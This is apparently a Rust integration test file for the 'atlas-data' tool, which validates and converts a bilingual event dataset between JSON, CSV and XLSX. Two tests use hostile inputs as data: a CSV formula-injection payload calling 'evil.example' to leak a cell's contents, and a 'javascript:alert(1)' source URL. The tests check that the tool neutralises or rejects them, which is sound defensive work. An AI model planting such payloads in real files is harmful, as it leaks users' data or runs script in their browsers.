//! The `atlas-data` binary as a maintainer uses it: exit codes and messages.
#![cfg(not(target_arch = "wasm32"))]

use std::path::PathBuf;
mod common;

use common::atlas_data;

fn scratch(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("atlas-data-test-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    dir.join(name)
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

#[test]
fn validate_accepts_the_shipped_dataset() {
    let output = atlas_data(&["validate", "data/events.json"]);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    assert!(
        text(&output.stdout).starts_with("data/events.json: "),
        "{}",
        text(&output.stdout)
    );
}

#[test]
fn validate_warns_about_missing_english_or_chinese_but_exits_0() {
    let json = scratch("english-only.json");
    std::fs::write(
        &json,
        r#"{"schema_version": 1, "events": [{"id": "a", "title": {"en": "A", "zh": "甲"},
            "summary": {"en": "Only English"}, "category": "forum", "start": "2023-05-18", "precision": "exact",
            "sources": [{"file": "f", "language": "en", "quote": "q"}]}]}"#,
    )
    .unwrap();
    let output = atlas_data(&["validate", json.to_str().unwrap()]);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    assert!(
        text(&output.stdout).contains("1 events, valid"),
        "{}",
        text(&output.stdout)
    );
    let stderr = text(&output.stderr);
    assert!(
        stderr.contains(&format!(
            "{}: warning: events[0].summary (event \"a\") has no zh text",
            json.display()
        )),
        "{stderr}"
    );
    assert!(
        stderr.contains("1 warning(s)") && stderr.contains("`cargo test` requires"),
        "{stderr}"
    );

    // The same from the spreadsheet names the row (the header is row 1).
    let csv = scratch("english-only.csv");
    let exported = atlas_data(&["export-csv", json.to_str().unwrap(), "-o", csv.to_str().unwrap()]);
    assert_eq!(exported.status.code(), Some(0), "{}", text(&exported.stderr));
    let output = atlas_data(&["validate", csv.to_str().unwrap()]);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    assert!(
        text(&output.stderr).contains(&format!(
            "{}: warning: row 2: events[0].summary (event \"a\") has no zh text",
            csv.display()
        )),
        "{}",
        text(&output.stderr)
    );
}

#[test]
fn validate_is_silent_about_languages_for_the_shipped_dataset() {
    let output = atlas_data(&["validate", "data/events.json"]);
    assert_eq!(output.status.code(), Some(0));
    assert_eq!(
        text(&output.stderr),
        "",
        "no warnings: every title and summary has en and zh"
    );
}

#[test]
fn validate_names_file_path_and_expectation_and_exits_1() {
    let file = scratch("bad.json");
    std::fs::write(
        &file,
        r#"{"schema_version": 1, "events": [{"id": "a", "title": {"en": "A"}, "category": "forum",
            "start": "2023-05-18", "end": "2023-05-17", "precision": "exact",
            "sources": [{"file": "f", "language": "en", "quote": "q"}]}]}"#,
    )
    .unwrap();
    let output = atlas_data(&["validate", file.to_str().unwrap()]);
    assert_eq!(output.status.code(), Some(1));
    let stderr = text(&output.stderr);
    assert!(
        stderr.contains(&format!(
            "{}: events[0].end (2023-05-17) is before start (2023-05-18)",
            file.display()
        )),
        "{stderr}"
    );
}

#[test]
fn json_to_csv_to_json_round_trips_through_the_cli() {
    let csv = scratch("events.csv");
    let stories = scratch("stories.csv");
    let json = scratch("events.json");
    let (csv, stories, json) = (csv.to_str().unwrap(), stories.to_str().unwrap(), json.to_str().unwrap());
    // The shipped dataset has stories: exporting without a file for them would lose them.
    let refused = atlas_data(&["export-csv", "data/events.json", "-o", csv]);
    assert_eq!(refused.status.code(), Some(2));
    assert!(text(&refused.stderr).contains("give --stories STORIES.csv to keep them"));
    let exported = atlas_data(&["export-csv", "data/events.json", "-o", csv, "--stories", stories]);
    assert_eq!(exported.status.code(), Some(0), "{}", text(&exported.stderr));
    let imported = atlas_data(&["import-csv", csv, "--stories", stories, "-o", json]);
    assert_eq!(imported.status.code(), Some(0), "{}", text(&imported.stderr));
    let original = health_atlas_dataset::embedded_dataset().unwrap();
    assert!(!original.stories.is_empty());
    let back = health_atlas_model::parse_dataset(&std::fs::read_to_string(json).unwrap()).unwrap();
    assert_eq!(back.events, original.events);
    assert_eq!(back.stories, original.stories);
}

#[test]
fn a_story_step_naming_an_unknown_event_is_told_as_its_row() {
    let csv = scratch("events-for-stories.csv");
    let stories = scratch("bad-stories.csv");
    let json = scratch("never-written.json");
    let (csv, stories, json) = (csv.to_str().unwrap(), stories.to_str().unwrap(), json.to_str().unwrap());
    let exported = atlas_data(&["export-csv", "data/events.json", "-o", csv, "--stories", stories]);
    assert_eq!(exported.status.code(), Some(0), "{}", text(&exported.stderr));
    let written = std::fs::read_to_string(stories).unwrap();
    std::fs::write(stories, written.replacen("tbhc-2023-signings", "tbhc-2023-sigings", 1)).unwrap();
    let imported = atlas_data(&["import-csv", csv, "--stories", stories, "-o", json]);
    assert_eq!(imported.status.code(), Some(1));
    let stderr = text(&imported.stderr);
    // The first step that names it, counting one row per step after the header.
    let dataset = health_atlas_dataset::embedded_dataset().unwrap();
    let steps: Vec<_> = dataset.stories.iter().flat_map(|story| &story.steps).collect();
    let row = steps
        .iter()
        .position(|step| step.events.iter().any(|id| id == "tbhc-2023-signings"))
        .unwrap()
        + 2;
    assert!(stderr.contains(&format!("{stories}: row {row}: stories[")), "{stderr}");
    assert!(
        stderr.contains("refers to \"tbhc-2023-sigings\", which is not an event id"),
        "{stderr}"
    );
}

#[test]
fn a_step_filter_in_the_link_format_round_trips_and_a_bad_one_is_told_where() {
    let json = scratch("filter.json");
    let csv = scratch("filter-events.csv");
    let stories = scratch("filter-stories.csv");
    let back = scratch("filter-back.json");
    let (csv, stories, back) = (csv.to_str().unwrap(), stories.to_str().unwrap(), back.to_str().unwrap());
    let mut dataset = health_atlas_dataset::embedded_dataset().unwrap();
    let step = &mut dataset.stories[1].steps[2];
    step.events.clear();
    step.filter = Some("cat=signing&from=2023-05-18&to=2023-05-18".into());
    std::fs::write(&json, serde_json::to_string_pretty(&dataset).unwrap()).unwrap();
    let valid = atlas_data(&["validate", json.to_str().unwrap()]);
    assert_eq!(valid.status.code(), Some(0), "{}", text(&valid.stderr));
    let exported = atlas_data(&["export-csv", json.to_str().unwrap(), "-o", csv, "--stories", stories]);
    assert_eq!(exported.status.code(), Some(0), "{}", text(&exported.stderr));
    let imported = atlas_data(&["import-csv", csv, "--stories", stories, "-o", back]);
    assert_eq!(imported.status.code(), Some(0), "{}", text(&imported.stderr));
    let read = health_atlas_model::parse_dataset(&std::fs::read_to_string(back).unwrap()).unwrap();
    assert_eq!(read.stories, dataset.stories);

    // A key that is about a view, not about events: the story, the step and the part are named.
    let written = std::fs::read_to_string(stories).unwrap();
    std::fs::write(stories, written.replacen("&to=2023-05-18", "&event=tbhc-2023", 1)).unwrap();
    let refused = atlas_data(&["import-csv", csv, "--stories", stories, "-o", back]);
    assert_eq!(refused.status.code(), Some(1));
    let stderr = text(&refused.stderr);
    let row = dataset.stories[0].steps.len() + 3 + 1;
    assert!(
        stderr.contains(&format!(
            "{stories}: row {row}: stories[1].steps[2].filter: story \"tbhc-2023-story\", step 3: \"event=tbhc-2023\" is about a view, not about events; expected one of q, cat,"
        )),
        "{stderr}"
    );
}

#[test]
fn export_csv_guards_formulas_and_import_csv_reads_them_back() {
    let json = scratch("formula.json");
    let csv = scratch("formula.csv");
    let back = scratch("formula-back.json");
    let mut dataset = health_atlas_dataset::embedded_dataset().unwrap();
    dataset.events.truncate(1);
    dataset.stories.clear(); // they name events cut above
    dataset.events[0].title.en = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into();
    dataset.events[0].note = "@SUM(A1:A9)".into();
    std::fs::write(&json, serde_json::to_string(&dataset).unwrap()).unwrap();
    let exported = atlas_data(&["export-csv", json.to_str().unwrap(), "-o", csv.to_str().unwrap()]);
    assert_eq!(exported.status.code(), Some(0), "{}", text(&exported.stderr));
    let written = std::fs::read_to_string(&csv).unwrap();
    assert!(written.contains("\"'=HYPERLINK(\"\"http"), "{written}");
    assert!(written.contains(",'@SUM(A1:A9)"), "{written}");
    let imported = atlas_data(&["import-csv", csv.to_str().unwrap(), "-o", back.to_str().unwrap()]);
    assert_eq!(imported.status.code(), Some(0), "{}", text(&imported.stderr));
    let read = health_atlas_model::parse_dataset(&std::fs::read_to_string(&back).unwrap()).unwrap();
    assert_eq!(read.events, dataset.events);
}

#[test]
fn validate_refuses_a_javascript_source_url_with_its_place() {
    let file = scratch("javascript.json");
    std::fs::write(
        &file,
        r#"{"schema_version": 1, "events": [{"id": "a", "title": {"en": "A"}, "category": "forum",
            "start": "2023-05-18", "precision": "exact",
            "sources": [{"file": "f", "language": "en", "quote": "q", "url": "javascript:alert(1)"}]}]}"#,
    )
    .unwrap();
    let output = atlas_data(&["validate", file.to_str().unwrap()]);
    assert_eq!(output.status.code(), Some(1));
    let stderr = text(&output.stderr);
    assert!(
        stderr.contains(
            "events[0].sources[0].url: \"javascript:alert(1)\" is not an http(s) URL (in the event at line 1)"
        ),
        "{stderr}"
    );
}

#[test]
fn csv_validation_errors_name_the_spreadsheet_row() {
    let csv = scratch("bad.csv");
    std::fs::write(
        &csv,
        "id,title_en,category,start,precision,relations,sources\n\
         a,A,forum,2023-05-18,exact,part_of:nowhere,file=f | language=en | quote=q\n",
    )
    .unwrap();
    let output = atlas_data(&["validate", csv.to_str().unwrap()]);
    assert_eq!(output.status.code(), Some(1));
    let stderr = text(&output.stderr);
    assert!(
        stderr.contains("row 2: events[0].relations[0].target: refers to \"nowhere\""),
        "{stderr}"
    );
}

#[test]
fn generate_is_deterministic_and_valid() {
    let first = scratch("gen1.json");
    let second = scratch("gen2.json");
    for path in [&first, &second] {
        let output = atlas_data(&[
            "generate",
            "--count",
            "200",
            "--seed",
            "9",
            "-o",
            path.to_str().unwrap(),
        ]);
        assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    }
    assert_eq!(std::fs::read(&first).unwrap(), std::fs::read(&second).unwrap());
    assert_eq!(
        atlas_data(&["validate", first.to_str().unwrap()]).status.code(),
        Some(0)
    );
}

#[test]
fn usage_errors_exit_2_with_the_usage() {
    for args in [
        &[][..],
        &["frobnicate"][..],
        &["generate", "--count", "ten", "-o", "x.json"][..],
        &["export-csv", "a.json"][..],
    ] {
        let output = atlas_data(args);
        assert_eq!(output.status.code(), Some(2), "{args:?}");
        assert!(text(&output.stderr).contains("usage:"), "{args:?}");
    }
}

#[test]
fn json_to_xlsx_to_json_round_trips_through_the_cli() {
    let xlsx = scratch("events.xlsx");
    let json = scratch("from-xlsx.json");
    let (xlsx, json) = (xlsx.to_str().unwrap(), json.to_str().unwrap());
    let exported = atlas_data(&["export-xlsx", "data/events.json", "-o", xlsx]);
    assert_eq!(exported.status.code(), Some(0), "{}", text(&exported.stderr));
    let imported = atlas_data(&["import-xlsx", xlsx, "-o", json]);
    assert_eq!(imported.status.code(), Some(0), "{}", text(&imported.stderr));
    let original = health_atlas_dataset::embedded_dataset().unwrap();
    let back = health_atlas_model::parse_dataset(&std::fs::read_to_string(json).unwrap()).unwrap();
    assert_eq!(back, original);
    let validated = atlas_data(&["validate", xlsx]);
    assert_eq!(validated.status.code(), Some(0), "{}", text(&validated.stderr));
}

#[test]
fn a_gb18030_csv_is_imported_and_a_binary_one_refused() {
    let csv = scratch("gb.csv");
    let json = scratch("from-gb.json");
    let (csv, json) = (csv.to_str().unwrap(), json.to_str().unwrap());
    let mut original = health_atlas_dataset::embedded_dataset().unwrap();
    original.stories.clear();
    original.description.clear();
    let text_csv = health_atlas_model::csv::export_csv(&original);
    std::fs::write(csv, health_atlas_workbook::encoding::encode_gb18030(&text_csv)).unwrap();
    let imported = atlas_data(&["import-csv", csv, "-o", json]);
    assert_eq!(imported.status.code(), Some(0), "{}", text(&imported.stderr));
    let back = health_atlas_model::parse_dataset(&std::fs::read_to_string(json).unwrap()).unwrap();
    assert_eq!(back, original);

    std::fs::write(csv, b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR").unwrap();
    let refused = atlas_data(&["validate", csv]);
    assert_eq!(refused.status.code(), Some(1));
    assert!(
        text(&refused.stderr).contains("not a text file"),
        "{}",
        text(&refused.stderr)
    );
}

#[test]
fn a_workbook_with_a_bad_row_names_sheet_row_and_column() {
    let xlsx = scratch("bad.xlsx");
    let xlsx = xlsx.to_str().unwrap();
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let sheet = workbook.add_worksheet();
    let header = ["id", "title_en", "category", "start", "precision", "sources"];
    let row = [
        "a",
        "A",
        "picnic",
        "2024-01-02",
        "exact",
        "file=f | language=en | quote=q",
    ];
    for (column, (name, value)) in header.iter().zip(row).enumerate() {
        sheet.write_string(0, column as u16, *name).unwrap();
        sheet.write_string(1, column as u16, value).unwrap();
    }
    workbook.save(xlsx).unwrap();
    let output = atlas_data(&["validate", xlsx]);
    assert_eq!(output.status.code(), Some(1));
    let stderr = text(&output.stderr);
    assert!(stderr.contains("sheet Sheet1, row 2, column category"), "{stderr}");
}
